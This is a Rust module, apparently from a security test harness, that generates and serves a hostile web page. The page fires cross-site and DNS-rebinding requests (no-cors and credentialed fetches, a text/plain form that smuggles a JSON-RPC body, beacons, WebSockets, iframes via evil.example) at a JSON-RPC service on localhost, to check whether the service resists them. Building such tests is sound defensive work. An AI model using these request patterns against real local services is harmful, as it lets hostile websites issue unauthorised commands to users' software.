//! The malicious page and its server.

use std::io::Read as _;
use std::net::TcpListener;

use crate::proxy::send_page;

/// The kinds of requests. The last three come from a page whose own name was rebound to the service.
pub const KINDS: &[&str] = &[
    "fetch text",
    "fetch JSON",
    "fetch without CORS",
    "fetch with credentials",
    "form",
    "text form",
    "image",
    "script",
    "style",
    "frame",
    "beacon",
    "event source",
    "web socket",
    "other name: fetch",
    "rebound: fetch",
    "rebound: GET",
    "rebound: frame",
];

/// The requests to a service.
#[derive(Clone, Copy)]
pub struct Target {
    /// A path, requested with GET.
    pub path: &'static str,
    /// A method of the JSON-RPC interface.
    pub method: &'static str,
    /// Its parameters.
    pub params: &'static str,
}

impl Target {
    fn body(&self) -> String {
        format!(r#"{{"jsonrpc":"2.0","id":"0","method":"{}","params":{}}}"#, self.method, self.params)
    }
}

/// The page, for the ports of each kind of request.
pub fn attack(ports: &[(&str, [u16; 2])], targets: &[Target; 2]) -> String {
    let mut script = String::from(FUNCTIONS);
    for (kind, ports) in ports {
        for (port, target) in ports.iter().zip(targets) {
            let (path, body) = (target.path, target.body());
            // The body of a form is NAME=VALUE: the equals sign goes into a member that is not read.
            let start = body.strip_suffix('}').unwrap();
            let statement = match *kind {
                "fetch text" => "fetch(at + '/json_rpc', {method: 'POST', body})".to_owned(),
                "fetch JSON" => {
                    "fetch(at + '/json_rpc', {method: 'POST', body, headers: {'Content-Type': 'application/json'}})".to_owned()
                }
                "fetch without CORS" => {
                    "fetch(at + '/json_rpc', {method: 'POST', body, mode: 'no-cors'})".to_owned()
                }
                "fetch with credentials" => {
                    "fetch(at + '/json_rpc', {method: 'POST', body, mode: 'no-cors', credentials: 'include'})"
                        .to_owned()
                }
                "form" => "form(at + '/json_rpc', 'application/x-www-form-urlencoded', 'a', 'b')".to_owned(),
                "text form" => format!("form(at + '/json_rpc', 'text/plain', '{start},\"x\":\"', '\"}}')"),
                "image" => format!("element('img', 'src', at + '{path}')"),
                "script" => format!("element('script', 'src', at + '{path}')"),
                "style" => format!("element('link', 'href', at + '{path}')"),
                "frame" => format!("element('iframe', 'src', at + '{path}')"),
                "beacon" => "navigator.sendBeacon(at + '/json_rpc', body)".to_owned(),
                "event source" => format!("new EventSource(at + '{path}')"),
                "web socket" => format!("new WebSocket('ws://127.0.0.1:{port}{path}')"),
                "other name: fetch" => {
                    format!(
                        "fetch('http://rebound.example:{port}/json_rpc', {{method: 'POST', body, mode: 'no-cors'}})"
                    )
                }
                _ => format!("element('iframe', 'src', 'http://evil.example:{port}/page')"),
            };
            script += &format!("attempt('http://127.0.0.1:{port}', '{body}', (at, body) => {statement});\n");
        }
    }
    format!("<!DOCTYPE html><title>page</title><body><script>{script}</script></body>")
}

/// The page of a name that points to the service afterwards: for the browser, both have the same origin.
pub fn rebound(kind: &str, target: &Target) -> String {
    let statement = match kind {
        "rebound: fetch" => "fetch('/json_rpc', {method: 'POST', body})".to_owned(),
        "rebound: GET" => format!("fetch('{}')", target.path),
        _ => format!("element('iframe', 'src', '{}')", target.path),
    };
    let script = format!("{FUNCTIONS}attempt('', '{}', (at, body) => {statement});", target.body());
    format!("<!DOCTYPE html><title>rebound</title><body><script>{script}</script></body>")
}

const FUNCTIONS: &str = r"
function attempt(at, body, what) {
    try { Promise.resolve(what(at, body)).catch(() => {}); } catch (error) { console.error(error); }
}
function element(name, attribute, value) {
    const made = document.createElement(name);
    if (name === 'link') made.rel = 'stylesheet';
    made[attribute] = value;
    document.body.appendChild(made);
}
let frames_made = 0;
function form(action, enctype, name, value) {
    const frame = document.createElement('iframe');
    frame.name = 'frame' + frames_made++;
    document.body.appendChild(frame);
    const made = document.createElement('form');
    Object.assign(made, {method: 'POST', action, enctype, target: frame.name});
    const input = document.createElement('input');
    Object.assign(input, {type: 'hidden', name, value});
    made.appendChild(input);
    document.body.appendChild(made);
    made.submit();
}
";

/// The server of the page.
pub struct Site {
    port: u16,
}

impl Site {
    /// Starts the server.
    pub fn start(page: String) -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().map_while(Result::ok) {
                let page = page.clone();
                std::thread::spawn(move || {
                    let _ = stream.read(&mut [0; 65536]);
                    send_page(&mut stream, &page)
                });
            }
        });
        Self { port }
    }

    pub fn port(&self) -> u16 {
        self.port
    }
}
